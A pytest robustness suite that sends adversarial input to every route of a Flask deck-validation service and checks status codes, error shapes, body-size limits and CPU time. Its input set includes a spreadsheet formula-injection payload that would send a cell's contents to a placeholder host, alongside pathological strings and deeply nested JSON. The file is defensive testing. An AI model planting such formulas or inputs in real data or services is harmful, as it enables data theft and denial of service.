"""Every public route against generated adversarial input: never a 5xx, always a
documented 4xx or a report, and no request costs more than the contract allows.

Routes are read from the app's own URL map, so a route added later is covered too.
Costs are measured as this thread's CPU time (the test client runs the app in this
thread), which other processes on a busy machine do not inflate.
"""

from __future__ import annotations

import json
import time
from urllib.parse import quote

import pytest
from werkzeug.routing import Rule

MB = 1024 * 1024
SERVER_SECONDS = 2.0  # contract, "Limits": any request within the limits

# Field names the service's forms and JSON bodies read; each request fills all of them.
FIELDS = (
    "format", "decklist", "date", "d", "q", "game", "page", "style", "pasted", "payload",
    "event", "player", "player_id", "name", "deadline", "description", "kind", "level",
    "color", "sort", "order", "per_page", "deck", "decks", "file", "token", "id",
)  # fmt: skip


def adversarial() -> dict[str, str]:
    """Inputs that were slow or fatal somewhere (issue 11), each about 100 KB or less."""
    unknown = "\n".join(f"4 Zqx{i:04d}vormon {'ab' * (i % 7)}" for i in range(1000))
    return {
        "spaces": "a" + " " * 100_000 + "b",
        "letters": "4 " + "a" * 100_000,
        "digits": "1" * 100_000,
        "dashes": "BT1" + "-" * 100_000 + "x",
        "brackets": "4 " + "[(" * 25_000 + "x" + ")]" * 25_000,
        "unicode": "4 " + "Ä😀\u202eﾟ\u3000ｱ\u0301" * 12_000,
        "header": "== a" + " " * 1_500 + "b\n" + "=== " + "_" * 50_000 + " ===",
        "file-name": "a_(" + "_" * 1_000 + "b.txt",
        "unknown-names": unknown,
        "controls": "4 Agu\x00mon\r\n\x1b[31m4 ST1-03\x7f\ud800".encode(
            errors="surrogatepass"
        ).decode(errors="replace"),
        "formula": '=HYPERLINK("http://example.invalid/?x="&B3,"x")',
        "numbers": "9" * 5_000 + " ST1-03\n" + "-1 ST1-03\n0 ST1-03\n1e999 ST1-03",
    }


INPUTS = adversarial()


def deep_json(depth: int = 5_000) -> bytes:
    return b'{"format": "dcg", "deck": ' + b"[" * depth + b"]" * depth + b"}"


def routes(app) -> list[tuple[Rule, str]]:
    found = []
    for rule in app.url_map.iter_rules():
        if rule.endpoint == "static":
            continue
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            found.append((rule, method))
    return found


def url(rule: Rule, value: str) -> str:
    """The rule's address with every path part set to `value` (cut to fit a request line)."""
    path = rule.rule
    for _ in rule.arguments:
        start = path.index("<")
        path = path[:start] + quote(value[:2000], safe="") + path[path.index(">", start) + 1 :]
    return path


def send(client, method: str, path: str, **kwargs):
    started = time.thread_time()
    response = client.open(path, method=method, **kwargs)
    spent = time.thread_time() - started
    return response, spent


def check(response, spent: float, path: str, label: str) -> None:
    where = f"{response.request.method} {path[:80]} ({label})"
    assert response.status_code < 500, f"{where}: {response.status_code}"
    assert spent < SERVER_SECONDS, f"{where}: {spent:.2f} s of server time"
    if path.startswith("/api/") and response.status_code >= 400:
        error = response.get_json()["error"]
        assert set(error) == {"code", "message", "details"}, where


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    from deckcheck import create_app

    folder = tmp_path_factory.mktemp("hostile")
    (folder / "formats").mkdir()
    return create_app(
        {
            "TESTING": True,
            "DATABASE": str(folder / "cards.db"),
            "FORMATS_DIR": str(folder / "formats"),
            "EVENTS_DATABASE": str(folder / "events.db"),
            "SECRET_KEY": "hostile",
        }
    )


@pytest.fixture(scope="module")
def hostile(hostile_app):
    return hostile_app.test_client()


@pytest.mark.parametrize("label", sorted(INPUTS))
def test_every_route_takes_every_input(hostile_app, hostile, label):
    value = INPUTS[label]
    for rule, method in routes(hostile_app):
        path = url(rule, value)
        fields = {name: value for name in FIELDS}
        if method in ("GET", "DELETE"):
            short = {name: value[:2000] for name in FIELDS}  # what fits in a request line
            response, spent = send(hostile, method, path, query_string=short)
            check(response, spent, path, label)
            continue
        response, spent = send(hostile, method, path, data=fields)
        check(response, spent, path, label + ", form")
        body = json.dumps({**fields, "format": "dcg", "deck": {"main": [value]}})
        response, spent = send(hostile, method, path, data=body, content_type="application/json")
        check(response, spent, path, label + ", json")


def test_deep_nesting_is_a_clear_4xx(hostile_app, hostile):
    for rule, method in routes(hostile_app):
        if method in ("GET", "DELETE"):
            continue
        path = url(rule, "x")
        response, spent = send(
            hostile, method, path, data=deep_json(), content_type="application/json"
        )
        check(response, spent, path, "deep nesting")
        if rule.endpoint.startswith("api.") and response.status_code != 404:
            assert 400 <= response.status_code < 500


def test_bodies_over_every_limit_are_413(hostile_app, hostile):
    for rule, method in routes(hostile_app):
        if method == "GET":
            continue
        limit = MB * (16 if rule.endpoint == "api.validate_batch" else 1)
        path = url(rule, "x")
        over = b" " * (limit + 1)
        for content_type in ("application/json", "application/x-www-form-urlencoded"):
            response, _ = send(hostile, method, path, data=over, content_type=content_type)
            assert response.status_code == 413, (method, path, content_type)
            api = path.startswith("/api/")
            assert (response.mimetype == "application/json") == api, (method, path)


def test_bodies_just_under_the_limit_are_read(hostile_app, hostile):
    for rule, method in routes(hostile_app):
        if method == "GET":
            continue
        limit = MB * (16 if rule.endpoint == "api.validate_batch" else 1)
        path = url(rule, "x")
        start = b'{"format": "dcg", "decklist": "4 ST1-03"}'
        body = start + b" " * (limit - len(start))
        response, spent = send(hostile, method, path, data=body, content_type="application/json")
        check(response, spent, path, "just under the limit")
        assert response.status_code != 413, (method, path)


def test_a_100_kb_line_is_answered_quickly_on_the_deck_routes(hostile):
    for label in ("spaces", "letters", "brackets", "unicode", "dashes"):
        value = INPUTS[label]
        response, spent = send(
            hostile, "POST", "/api/v1/decks/validate", json={"format": "dcg", "decklist": value}
        )
        assert response.status_code == 200, label
        assert spent < SERVER_SECONDS, (label, spent)
        response, spent = send(
            hostile, "POST", "/report", data={"format": "dcg", "decklist": value}
        )
        assert response.status_code == 200 and spent < SERVER_SECONDS, (label, spent)


def test_a_thousand_unknown_names_are_reported_in_bounded_time(hostile):
    decks = [{"id": str(i), "decklist": INPUTS["unknown-names"]} for i in range(16)]
    response, spent = send(
        hostile,
        "POST",
        "/api/v1/decks/validate-batch",
        json={"format": "dcg", "decks": decks},
    )
    assert response.status_code == 200 and len(response.get_json()["results"]) == 16
    assert spent < SERVER_SECONDS * 4
